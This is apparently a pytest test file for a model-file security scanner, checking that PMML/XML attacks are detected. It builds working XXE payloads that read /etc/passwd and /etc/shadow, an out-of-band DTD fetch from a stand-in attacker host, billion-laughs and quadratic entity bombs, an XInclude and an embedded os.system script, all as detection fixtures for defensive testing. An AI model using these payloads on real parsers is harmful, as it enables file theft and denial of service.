"""PMML / XML model files: XXE, entity bombs, XInclude and script extensions, built from bytes.

Benign fixtures in ``tests/assets/pmml`` come from a real exporter (nyoka, ``tests/assets/make_pmml.py``).
Each attack test fails if its detection is removed; the bomb tests also prove nothing is expanded.
"""

from __future__ import annotations

import time
import tracemalloc
from pathlib import Path

import pytest

import mlvet
import mlvet.formats.pmml  # registers the handler until formats/__init__ imports it
from mlvet.model import FileResult, Severity, Status

ASSETS = Path(__file__).resolve().parents[1] / "assets" / "pmml"
BODY = '<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header copyright="{c}"/>{extra}</PMML>'


def scan_bytes(tmp_path: Path, data: bytes, name: str = "model.pmml") -> FileResult:
    p = tmp_path / name
    p.write_bytes(data)
    (res,) = mlvet.scan(p).results
    return res


def found(res: FileResult) -> list[tuple[str, Severity]]:
    return [(f.rule_id, f.severity) for f in res.findings]


def doc(doctype: str = "", copyright: str = "x", extra: str = "") -> bytes:
    return f'<?xml version="1.0" encoding="UTF-8"?>\n{doctype}\n{BODY.format(c=copyright, extra=extra)}\n'.encode()


@pytest.mark.parametrize("path", sorted(ASSETS.glob("*.pmml")), ids=lambda p: p.name)
def test_benign_exports_are_clean(path: Path) -> None:
    (res,) = mlvet.scan(path).results
    assert (res.format, res.status, res.findings) == ("pmml", Status.SCANNED, ())


def test_external_entity_in_content(tmp_path: Path) -> None:
    res = scan_bytes(tmp_path, doc('<!DOCTYPE PMML [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>',
                                   extra="<Extension>&xxe;</Extension>"))
    assert found(res) == [("OTH010", Severity.HIGH)] and res.status is Status.SCANNED
    assert "file:///etc/passwd" in res.findings[0].message


def test_external_entity_referenced_in_attribute_still_reported(tmp_path: Path) -> None:
    """Expat rejects external refs in attribute values; the declaration is reported all the same."""
    res = scan_bytes(tmp_path, doc('<!DOCTYPE PMML [ <!ENTITY x PUBLIC "-//A//B" "http://x.invalid/a"> ]>', "&x;"))
    assert ("OTH010", Severity.HIGH) in found(res)


def test_external_dtd_and_parameter_entities(tmp_path: Path) -> None:
    res = scan_bytes(tmp_path, doc('<!DOCTYPE PMML SYSTEM "http://attacker.invalid/pmml.dtd">'), "a.pmml")
    assert found(res) == [("OTH010", Severity.HIGH)]
    oob = ('<!DOCTYPE PMML [ <!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote; '
           '<!ENTITY hidden SYSTEM "file:///etc/shadow"> ]>')
    res = scan_bytes(tmp_path, doc(oob), "b.pmml")
    messages = " ".join(f.message for f in res.findings)
    assert "parameter entity 'remote'" in messages
    assert "'hidden'" in messages  # declared after the PE reference, where expat stops reporting


def test_billion_laughs_is_detected_without_expanding(tmp_path: Path) -> None:
    ents = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    ]
    data = doc("<!DOCTYPE PMML [ " + " ".join(ents) + " ]>", extra="<Extension>&lol9;</Extension>")
    tracemalloc.start()
    started = time.perf_counter()
    res = scan_bytes(tmp_path, data)
    elapsed = time.perf_counter() - started
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert ("OTH011", Severity.HIGH) in found(res)
    assert elapsed < 5 and peak < 50 * 1024 * 1024


def test_quadratic_blowup_and_recursive_entities(tmp_path: Path) -> None:
    big = "A" * 100_000
    res = scan_bytes(tmp_path, doc(f'<!DOCTYPE PMML [ <!ENTITY a "{big}"> ]>', extra="<Extension>" + "&a;" * 50
                                   + "</Extension>"), "a.pmml")
    assert ("OTH011", Severity.HIGH) in found(res)
    res = scan_bytes(tmp_path, doc('<!DOCTYPE PMML [ <!ENTITY a "&b;"> <!ENTITY b "&a;"> ]>'), "b.pmml")
    assert ("OTH011", Severity.HIGH) in found(res)


def test_single_internal_entity_is_low(tmp_path: Path) -> None:
    res = scan_bytes(tmp_path, doc('<!DOCTYPE PMML [ <!ENTITY v "4.4"> ]>'))
    assert found(res) == [("OTH014", Severity.LOW)]


def test_xinclude_and_extension_script(tmp_path: Path) -> None:
    extra = ('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
             '<Extension name="vendor"><script type="python">__import__("os").system("id")</script></Extension>')
    res = scan_bytes(tmp_path, doc(extra=extra))
    assert found(res) == [("OTH012", Severity.HIGH), ("OTH013", Severity.LOW)]


def test_utf16_document_is_analysed(tmp_path: Path) -> None:
    text = doc('<!DOCTYPE PMML [ <!ENTITY xxe SYSTEM "file:///etc/hosts"> ]>').decode()
    text = text.replace('encoding="UTF-8"', 'encoding="UTF-16"')
    res = scan_bytes(tmp_path, b"\xff\xfe" + text.encode("utf-16-le"))
    assert ("OTH010", Severity.HIGH) in found(res)


def test_any_xml_with_a_dtd_is_claimed_plain_xml_is_not(tmp_path: Path) -> None:
    xxe = b'<?xml version="1.0"?><!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]><net>&x;</net>'
    res = scan_bytes(tmp_path, xxe, "model.xml")
    assert res.format == "pmml" and ("OTH010", Severity.HIGH) in found(res)
    plain = b'<?xml version="1.0"?><net name="openvino-ir" version="11"><layers/></net>'
    res = scan_bytes(tmp_path, plain, "ir.xml")
    assert res.format != "pmml" and res.findings == ()


@pytest.mark.parametrize("data", [b'<?xml version="1.0"?>\n<PMML version="4.4"><Header>', b"<PMML><a></b></PMML>"])
def test_malformed_pmml_is_an_error(tmp_path: Path, data: bytes) -> None:
    res = scan_bytes(tmp_path, data)
    assert res.status is Status.ERROR and "malformed XML" in res.errors[0]


def test_large_pmml_streams_in_bounded_memory(tmp_path: Path) -> None:
    rows = "".join(f'<Node score="{i}"><True/></Node>' for i in range(200_000))
    data = doc(extra=f"<TreeModel functionName=\"classification\">{rows}</TreeModel>")
    tracemalloc.start()
    res = scan_bytes(tmp_path, data)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert res.status is Status.SCANNED and res.findings == ()
    assert len(data) > 5_000_000 and peak < 20 * 1024 * 1024
